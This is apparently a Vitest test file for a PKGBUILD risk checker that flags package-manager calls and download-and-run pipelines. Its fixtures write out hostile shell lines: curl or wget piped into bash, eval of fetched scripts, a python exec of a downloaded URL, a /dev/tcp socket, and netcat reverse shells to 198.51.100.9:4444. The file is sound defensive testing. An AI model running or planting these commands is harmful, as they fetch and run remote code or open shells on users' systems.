import { describe, expect, it } from 'vitest';
import { checkDownloadAndRun, checkPackageManagers } from './check-commands.js';
import { brief, lineOf, riskInput } from './fixtures/helpers.js';
import { PYTHON_PKG, WIDGET_GIT, fancytool, slinkyBin } from './fixtures/packages.js';

const prev = fancytool();

/** Flags of `check` for the fancytool PKGBUILD with `line` added to package(). */
function inPackage(check: typeof checkPackageManagers, line: string) {
  const cand = fancytool({ packageExtra: [line] });
  return { flags: check(riskInput(cand, prev)), line: lineOf(cand.PKGBUILD, line.split('\n')[0]!) };
}

describe('package-managers', () => {
  it.each([
    'npm install',
    'npm i --cache "$srcdir/npm-cache"',
    'npm ci',
    'npx esbuild src/index.ts --bundle',
    'bun install --frozen-lockfile',
    'bunx vite build',
    'pip install --user requests',
    'pip3 download foo',
    'python -m pip install .',
    'cargo install --root "$pkgdir/usr" ripgrep',
    'go install github.com/evil/tool@latest',
    'gem install --user-install evil',
    'yarn add left-pad',
  ])('flags `%s` (medium) at its line', (cmd) => {
    const { flags, line } = inPackage(checkPackageManagers, cmd);
    expect(brief(flags)).toEqual([{ check: 'package-managers', severity: 'medium', file: 'PKGBUILD', line }]);
    expect(flags[0]!.reason).toContain(cmd.split(' ')[0]!);
  });

  it.each([
    'cargo build --release --locked',
    'cargo fetch --locked --target "$(rustc -vV | sed -n \'s/host: //p\')"',
    'go build -trimpath -o fancytool ./cmd/fancytool',
    'python -m installer --destdir="$pkgdir" dist/*.whl',
    'meson compile -C build',
  ])('does not flag `%s`', (cmd) => {
    expect(inPackage(checkPackageManagers, cmd).flags).toEqual([]);
  });

  it('does not flag package names in dependency arrays', () => {
    expect(checkPackageManagers(riskInput(fancytool({ depends: ['glibc', 'nodejs', 'npm', 'bun', 'python-pip'] }), prev))).toEqual([]);
    expect(checkPackageManagers(riskInput({ PKGBUILD: 'makedepends=(\n  bun\n  npm\n)\n' }))).toEqual([]);
  });

  it('only flags new lines', () => {
    const withNpm = fancytool({ buildExtra: ['npm ci'] });
    expect(checkPackageManagers(riskInput(fancytool({ pkgver: '1.5.0', buildExtra: ['npm ci'] }), withNpm))).toEqual([]);
  });
});

describe('download-and-run', () => {
  it('flags `curl -s https://x.y/z.sh | bash` inside package() (high)', () => {
    const { flags, line } = inPackage(checkDownloadAndRun, 'curl -s https://x.y/z.sh | bash');
    expect(brief(flags)).toEqual([{ check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line }]);
    expect(flags[0]!.reason).toMatch(/^PKGBUILD line \d+ pipes a download into an interpreter: `curl -s https:\/\/x\.y\/z\.sh \| bash`\.$/);
  });

  it.each([
    'wget -qO- https://x.y/z | sh',
    'wget -O- https://x.y/z | sudo bash -s',
    'curl -fsSL https://x.y/z | tee /tmp/log | /bin/sh',
    'curl https://x.y/z.py | python3 -',
    'bash <(curl -s https://x.y/z.sh)',
    '. <(wget -qO- https://x.y/env)',
    'eval "$(curl -fsSL https://x.y/z)"',
    'sh -c "$(curl -fsSL https://x.y/z)"',
    'python3 -c "import urllib.request as u; exec(u.urlopen(\'https://x.y/p\').read())"',
    "python -c 'import socket,subprocess,os;s=socket.socket()'",
    'exec 3<>/dev/tcp/198.51.100.9/4444',
    'nc -e /bin/sh 198.51.100.9 4444',
    'ncat 198.51.100.9 4444 --sh-exec "bash -i"',
  ])('flags `%s` (high)', (cmd) => {
    const { flags, line } = inPackage(checkDownloadAndRun, cmd);
    expect(brief(flags)).toEqual([{ check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line }]);
  });

  it('follows a pipeline over continuation lines', () => {
    const cand = fancytool({ packageExtra: ['curl -fsSL \\', '    https://x.y/z.sh |', '    bash'] });
    expect(brief(checkDownloadAndRun(riskInput(cand, prev)))).toEqual([
      { check: 'download-and-run', severity: 'high', file: 'PKGBUILD', line: lineOf(cand.PKGBUILD, 'curl -fsSL') },
    ]);
  });

  it('leaves plain downloads to network-fetch', () => {
    for (const cmd of [
      'curl -L -o extra.tar.gz https://x.y/extra.tar.gz',
      '_latest=$(curl -s https://api.x.y/latest)',
      'git clone https://x.y/repo.git',
    ]) {
      expect(inPackage(checkDownloadAndRun, cmd).flags, cmd).toEqual([]);
    }
  });

  it('scans install scriptlets and helper scripts too', () => {
    const cand = { ...prev, 'fancytool.install': 'post_install() {\n  wget -q -O - http://198.51.100.9/p | sh\n}\n' };
    expect(brief(checkDownloadAndRun(riskInput(cand, prev)))).toEqual([
      { check: 'download-and-run', severity: 'high', file: 'fancytool.install', line: 2 },
    ]);
  });

  it('ignores comments, dependency names, and lines already approved', () => {
    expect(inPackage(checkDownloadAndRun, '# do not use: curl https://x.y | sh').flags).toEqual([]);
    expect(checkDownloadAndRun(riskInput(fancytool({ depends: ['curl', 'wget'] }), prev))).toEqual([]);
    const before = fancytool({ packageExtra: ['curl -s https://x.y/z.sh | bash'] });
    const after = fancytool({ pkgver: '1.5.0', packageExtra: ['curl -s https://x.y/z.sh | bash'] });
    expect(checkDownloadAndRun(riskInput(after, before))).toEqual([]);
  });

  it('accepts ordinary packages', () => {
    for (const files of [fancytool(), slinkyBin(), WIDGET_GIT, PYTHON_PKG]) expect(checkDownloadAndRun(riskInput(files))).toEqual([]);
  });
});
